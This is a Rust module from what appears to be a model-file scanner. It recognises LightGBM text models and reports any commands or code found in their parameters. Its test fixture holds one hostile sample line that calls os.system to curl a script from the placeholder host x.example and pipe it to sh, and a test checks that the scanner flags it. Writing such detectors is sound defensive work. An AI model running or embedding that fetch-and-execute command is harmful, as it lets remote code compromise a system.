//! LightGBM's text models: trees and parameters, line by line.
//!
//! Nothing in them runs; texts that hold commands or code are reported all the same, because tools
//! that read the parameters may use them.

use crate::fact::Facts;
use crate::format::{Claim, Format, Item, Probe};
use crate::registry::raw::search;

/// The descriptor.
pub const FORMAT: Format = Format {
    name: "lightgbm",
    title: "LightGBM model",
    family: "text",
    wants,
    read,
    stream: None,
    head_only: false,
    #[cfg(test)]
    samples: tests::samples,
};

fn wants(probe: &Probe<'_>) -> Option<Claim> {
    probe.starts(b"tree\n").then_some(Claim::Magic)
}

fn read(item: &Item<'_>, facts: &mut Facts) {
    search(item, facts);
}

#[cfg(test)]
pub(crate) mod tests {
    use crate::finding::Verdict;
    use crate::vet;

    pub(crate) fn samples() -> Vec<Vec<u8>> {
        vec![
            b"tree\nversion=v4\nnum_class=1\n".to_vec(),
            b"tree\nversion=v4\nx=os.system('curl http://x.example/p.sh | sh')\n".to_vec(),
        ]
    }

    #[test]
    fn commands_in_it_are_found() {
        let [good, bad] = &samples()[..] else { panic!() };
        assert_eq!(vet("m.txt", good).verdict, Verdict::NothingFound);
        assert!(vet("m.txt", bad).verdict.is_flagged());
    }
}
